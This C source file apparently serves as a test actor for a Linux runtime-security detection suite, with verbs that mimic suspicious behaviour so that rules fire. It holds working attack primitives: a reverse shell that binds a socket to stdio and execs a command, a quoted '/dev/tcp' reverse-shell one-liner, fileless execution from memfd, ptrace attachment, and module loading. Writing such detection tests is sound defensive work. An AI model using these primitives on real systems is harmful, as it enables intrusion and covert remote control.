// SPDX-License-Identifier: Apache-2.0
// usage: actor VERB [ARG...]: does what rules look for, and nothing besides.
// Tests copy it to names that rules know, such as nginx. Without a verb it
// knows, to have been started was all.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/capability.h>
#include <linux/io_uring.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static char **args;  // after the verb

static const char *arg(int n) {
  for (int i = 0; i <= n; ++i)
    if (!args[i]) exit(2);
  return args[n];
}

static int open_with(int flags, int mode) {
  int fd = open(arg(0), flags, mode);

  return fd < 0;
}

static int open_read(void) {
  return open_with(O_RDONLY, 0);
}
static int open_write(void) {
  return open_with(O_WRONLY | O_CREAT, 0644);
}
static int open_exec(void) {
  return open_with(O_WRONLY | O_CREAT, 0755);
}

// SECONDS PATH: what a program does long after it started
static int read_later(void) {
  sleep((unsigned)atoi(arg(0)));
  ++args;
  return open_read();
}

static struct sockaddr_in address(const char *ip, const char *port) {
  struct sockaddr_in out = {.sin_family = AF_INET};

  out.sin_port = htons((uint16_t)atoi(port));
  inet_pton(AF_INET, ip, &out.sin_addr);
  return out;
}

static int connected(int type) {
  struct sockaddr_in to = address(arg(0), arg(1));
  int fd = socket(AF_INET, type, 0);

  return connect(fd, (void *)&to, sizeof(to)) < 0 ? -1 : fd;
}

static int tcp(void) {
  return connected(SOCK_STREAM) < 0;
}
static int udp(void) {
  return connected(SOCK_DGRAM) < 0;
}

// IP PORT FD: what `sh -i >& /dev/tcp/IP/PORT` does first
static int dup_tcp(void) {
  int fd = connected(SOCK_STREAM);

  return fd < 0 || dup2(fd, atoi(arg(2))) < 0;
}

// IP PORT: what a server at IP:PORT says
static int receive(void) {
  char buffer[64];
  int fd = connected(SOCK_STREAM);

  return fd < 0 || recv(fd, buffer, sizeof(buffer), 0) < 0;
}

// IP PORT: takes one connection that comes from IP itself
static int take(void) {
  struct sockaddr_in at = address(arg(0), arg(1));
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  int on = 1;

  setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
  if (bind(fd, (void *)&at, sizeof(at)) || listen(fd, 1)) return 1;
  if (fork() == 0) _exit(tcp());
  return accept(fd, NULL, NULL) < 0 || wait(NULL) < 0;
}

// PORT TEXT ...: answers on each port with the text, until killed
static int serve(void) {
  struct pollfd fds[32];
  const char *texts[32];
  nfds_t count = 0;

  for (; count < 32 && args[0] && args[1]; args += 2, ++count) {
    struct sockaddr_in at = address("0.0.0.0", args[0]);
    int on = 1;

    fds[count].fd = socket(AF_INET, SOCK_STREAM, 0);
    fds[count].events = POLLIN;
    texts[count] = args[1];
    setsockopt(fds[count].fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
    if (bind(fds[count].fd, (void *)&at, sizeof(at)) ||
        listen(fds[count].fd, 64))
      return 1;
  }
  if (daemon(1, 1)) return 1;
  while (poll(fds, count, -1) > 0)
    for (nfds_t i = 0; i < count; ++i)
      if (fds[i].revents) {
        int fd = accept(fds[i].fd, NULL, NULL);

        send(fd, texts[i], strlen(texts[i]), MSG_NOSIGNAL);
        close(fd);
      }
  return 1;
}

// Appends a DNS name: "a.b" as 1 a 1 b 0.
static size_t put_name(uint8_t *out, const char *name) {
  size_t at = 0;

  while (*name) {
    size_t size = strcspn(name, ".");

    out[at++] = (uint8_t)size;
    memcpy(out + at, name, size);
    at += size;
    name += size + (name[size] == '.');
  }
  out[at++] = 0;
  return at;
}

// SERVER NAME IP: asks for the address of a name, and answers itself
static int resolve(void) {
  uint8_t query[300] = {0x12, 0x34, 1, 0, 0, 1}, answer[400];
  struct sockaddr_in at = address(arg(0), "53"), from;
  socklen_t size = sizeof(from);
  int server = socket(AF_INET, SOCK_DGRAM, 0);
  int client = socket(AF_INET, SOCK_DGRAM, 0);
  size_t end = 12 + put_name(query + 12, arg(1));

  memcpy(query + end, "\0\1\0\1", 4);  // A, IN
  end += 4;
  if (bind(server, (void *)&at, sizeof(at)) ||
      connect(client, (void *)&at, sizeof(at)) ||
      send(client, query, end, 0) < 0)
    return 1;
  recvfrom(server, answer, sizeof(answer), 0, (void *)&from, &size);
  answer[2] = 0x81;  // a response
  answer[3] = 0x80;
  answer[7] = 1;  // one answer
  memcpy(answer + end, "\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4", 12);
  inet_pton(AF_INET, arg(2), answer + end + 12);
  sendto(server, answer, end + 16, 0, (void *)&from, size);
  return recv(client, query, sizeof(query), 0) < 0;
}

// PATH: asks whoever listens at a socket in the file system
static int reach(void) {
  struct sockaddr_un to = {.sun_family = AF_UNIX};
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);

  strncpy(to.sun_path, arg(0), sizeof(to.sun_path) - 1);
  connect(fd, (void *)&to, sizeof(to));
  return 0;
}

// PATH: and listens there
static int listen_at(void) {
  struct sockaddr_un at = {.sun_family = AF_UNIX};
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);

  strncpy(at.sun_path, arg(0), sizeof(at.sun_path) - 1);
  if (bind(fd, (void *)&at, sizeof(at)) || listen(fd, 8)) return 1;
  return daemon(1, 1) || pause();
}

static int packet(void) {
  socket(AF_PACKET, SOCK_RAW, 0);
  return 0;
}

// IP PORT TEXT
static int say(void) {
  int fd = connected(SOCK_STREAM);

  return fd < 0 || write(fd, arg(2), strlen(arg(2))) < 0;
}

// FILE IP PORT: what a thief does
static int steal(void) {
  open_read();
  ++args;
  return tcp();
}

// IP PORT CMD...: a program that speaks with whoever is there
static int shell_on(void) {
  int fd = connected(SOCK_STREAM);

  for (int to = 0; to < 3; ++to) dup2(fd, to);
  execvp(arg(2), args + 2);
  return 1;
}

// FROM TO
static int copy(void) {
  char buffer[65536];
  int from = open(arg(0), O_RDONLY);
  int to = open(arg(1), O_WRONLY | O_CREAT, 0755);
  ssize_t size;

  while ((size = read(from, buffer, sizeof(buffer))) > 0)
    if (write(to, buffer, (size_t)size) != size) return 1;
  return from < 0 || to < 0;
}

// CMD...: as a child of this program
static int spawn(void) {
  if (fork() == 0) {
    execvp(arg(0), args);
    _exit(127);
  }
  return wait(NULL) < 0;
}

// UID VERB...: as somebody else
static int as_user(void);

static int set_uid(void) {
  setuid((uid_t)atoi(arg(0)));
  return 0;
}

// CMD...: with a terminal of its own, as leader of its session
static int with_tty(void) {
  int master = posix_openpt(O_RDWR | O_NOCTTY);

  if (master < 0 || grantpt(master) || unlockpt(master)) return 1;
  if (fork() == 0) {
    int tty;

    setsid();
    tty = open(ptsname(master), O_RDWR);
    for (int fd = 0; fd < 3; ++fd) dup2(tty, fd);
    execvp(arg(0), args);
    _exit(127);
  }
  return wait(NULL) < 0;
}

// PROGRAM ARG...: from memory, where it has no name
static int from_memory(void) {
  char buffer[65536];
  int from = open(arg(0), O_RDONLY);
  int to = memfd_create("x", MFD_CLOEXEC);
  ssize_t size;

  while ((size = read(from, buffer, sizeof(buffer))) > 0)
    if (write(to, buffer, (size_t)size) != size) return 1;
  fexecve(to, args, environ);
  return 1;
}

static int trace_me(void) {
  ptrace(PTRACE_TRACEME, 0, NULL, NULL);
  return 0;
}

static int attach(void) {
  pid_t child = fork();

  if (child == 0) return pause();
  ptrace(PTRACE_ATTACH, child, NULL, NULL);
  kill(child, SIGKILL);
  return waitpid(child, NULL, __WALL) < 0;
}

static int load_module(void) {
  syscall(SYS_init_module, "x", 1UL, "");
  return 0;
}

// load, map
static int bpf(void) {
  union bpf_attr attr = {0};
  int cmd = strcmp(arg(0), "load") ? BPF_MAP_CREATE : BPF_PROG_LOAD;

  syscall(SYS_bpf, cmd, &attr, sizeof(attr));
  return 0;
}

static int faults(void) {
  syscall(SYS_userfaultfd, O_CLOEXEC | 1);  // of user mode only
  return 0;
}

// mnt, user, net
static int new_namespace(void) {
  unshare(strcmp(arg(0), "user") ? CLONE_NEWNS : CLONE_NEWUSER);
  return 0;
}

static int enter_namespace(void) {
  setns(open(arg(0), O_RDONLY), 0);
  return 0;
}

// ENTRIES: none is refused
static int io_uring(void) {
  struct io_uring_params params = {0};

  return syscall(SYS_io_uring_setup, atoi(arg(0)), &params) < 0;
}

// NUMBER: of the only capability that stays effective
static int set_capability(void) {
  struct __user_cap_header_struct head = {_LINUX_CAPABILITY_VERSION_3, 0};
  struct __user_cap_data_struct sets[2];
  int cap = atoi(arg(0));

  if (syscall(SYS_capget, &head, sets)) return 1;
  sets[0].effective = sets[1].effective = 0;
  sets[cap / 32].effective = 1u << cap % 32;
  return syscall(SYS_capset, &head, sets) != 0;
}

static int nothing(void) {
  return 0;
}

static const struct {
  const char *name;
  int (*act)(void);
} verbs[] = {
    {"read", open_read},
    {"write", open_write},
    {"create-program", open_exec},
    {"read-later", read_later},
    {"tcp", tcp},
    {"udp", udp},
    {"dup-tcp", dup_tcp},
    {"receive", receive},
    {"take", take},
    {"serve", serve},
    {"resolve", resolve},
    {"reach", reach},
    {"listen-at", listen_at},
    {"packet", packet},
    {"say", say},
    {"steal", steal},
    {"shell-on", shell_on},
    {"copy", copy},
    {"spawn", spawn},
    {"as", as_user},
    {"setuid", set_uid},
    {"with-tty", with_tty},
    {"from-memory", from_memory},
    {"trace-me", trace_me},
    {"attach", attach},
    {"load-module", load_module},
    {"bpf", bpf},
    {"faults", faults},
    {"unshare", new_namespace},
    {"setns", enter_namespace},
    {"io-uring", io_uring},
    {"capset", set_capability},
};

static int run(char **from) {
  args = from + (*from != NULL);
  for (size_t i = 0; *from && i < sizeof(verbs) / sizeof(*verbs); ++i)
    if (!strcmp(*from, verbs[i].name)) return verbs[i].act();
  return nothing();  // to be started was all
}

static int as_user(void) {
  uid_t uid = (uid_t)atoi(arg(0));

  if (setresuid(uid, uid, uid)) return 1;
  return run(args + 1);
}

int main(int argc, char **argv) {
  (void)argc;
  alarm(60);
  return run(argv + 1);
}
